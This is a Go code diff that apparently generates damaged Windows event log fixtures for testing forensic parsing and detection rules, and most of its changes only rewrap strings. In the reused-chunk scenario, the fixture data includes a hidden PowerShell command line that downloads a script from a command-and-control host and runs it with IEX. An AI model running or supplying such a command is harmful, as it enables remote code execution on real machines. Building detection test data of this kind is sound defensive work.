@@ -44,8 +44,9 @@ func twoChunks(l *evtxtest.Log, events []*event) {
 
 func dirty(t *tree) error {
 	return damagedCase{dir: "dirty",
-		about: "A live copy of a log that its service had open: the dirty flag is set, the header's chunk count and next record id are old. Every record is whole.",
-		name:  "WS-FIN-31", user: "y.tanaka", ip: "10.20.7.71", rid: 1151,
+		about: "A live copy of a log that its service had open: the dirty flag is set, the header's chunk count " +
+			"and next record id are old. Every record is whole.",
+		name: "WS-FIN-31", user: "y.tanaka", ip: "10.20.7.71", rid: 1151,
 		shape: func(l *evtxtest.Log, events []*event) damage {
 			twoChunks(l, events)
 			return damage{kinds: []string{"dirty"}, after: func(file []byte, placed []evtxtest.Placed) []byte {
@@ -69,8 +70,9 @@ func badChecksum(t *tree) error {
 
 func tornTail(t *tree) error {
 	return damagedCase{dir: "torn-tail",
-		about: "The machine lost power while the last record was written: its header is there, its body is zero. The log is dirty.",
-		name:  "WS-FIN-33", user: "g.rossi", ip: "10.20.7.73", rid: 1153,
+		about: "The machine lost power while the last record was written: its header is there, its body is zero. " +
+			"The log is dirty.",
+		name: "WS-FIN-33", user: "g.rossi", ip: "10.20.7.73", rid: 1153,
 		shape: func(*evtxtest.Log, []*event) damage {
 			return damage{lost: 1, kinds: []string{"dirty", "torn-record"},
 				after: func(file []byte, placed []evtxtest.Placed) []byte {
@@ -98,8 +100,9 @@ func truncated(t *tree) error {
 
 func gaps(t *tree) error {
 	return damagedCase{dir: "gaps",
-		about: "Rubbish of 96 bytes stands between two records of the first chunk, and a slot that was never written between the chunks.",
-		name:  "WS-FIN-35", user: "n.bakker", ip: "10.20.7.75", rid: 1155,
+		about: "Rubbish of 96 bytes stands between two records of the first chunk, and a slot that was never " +
+			"written between the chunks.",
+		name: "WS-FIN-35", user: "n.bakker", ip: "10.20.7.75", rid: 1155,
 		shape: func(l *evtxtest.Log, events []*event) damage {
 			for i, e := range events {
 				l.Add(e.Event)
@@ -118,7 +121,9 @@ func gaps(t *tree) error {
 // run of scenario 1, stand behind the live ones. They are not live, and no rule may
 // see them unless asked to.
 func reused(t *tree) error {
-	p := t.plan("damaged/reused-chunk", "A circular log wrote over its first chunk: behind the live records stand older ones, among them a hidden PowerShell of the day before. Carving finds them; they are no findings by themselves.")
+	p := t.plan("damaged/reused-chunk", "A circular log wrote over its first chunk: behind the live records stand "+
+		"older ones, among them a hidden PowerShell of the day before. Carving finds them; they are no findings "+
+		"by themselves.")
 	m, shell := workstation("WS-FIN-36", "w.kim", "10.20.7.76", 1156, day(8, 20, 0))
 	chrome := m.browser(shell, chromeEx, "", day(8, 11, 12))
 	m.visit(chrome, day(8, 12, 0), "intranet.corp.example", "10.20.0.15")
@@ -128,7 +133,8 @@ func reused(t *tree) error {
 	before := old.start(day(8, 2, 0).AddDate(0, 0, -1))
 	b := old.browser(before, chromeEx, "", day(8, 9, 0).AddDate(0, 0, -1))
 	at := day(8, 14, 0).AddDate(0, 0, -1)
-	ps := old.run(b, prog("powershell.exe"), psArgs+`-NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command "IEX (New-Object Net.WebClient).DownloadString('https://`+c2Host+`/a/s.ps1')"`, old.user, at)
+	ps := old.run(b, prog("powershell.exe"),
+		psArgs+`-NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command "IEX (New-Object Net.WebClient).DownloadString('https://`+c2Host+`/a/s.ps1')"`, old.user, at)
 	old.visit(ps.process, at.Add(2000000000), c2Host, c2IP)
 	old.create(ps.process, at.Add(4000000000), old.user.temp()+"link_cache.dll")
 	old.layOut()
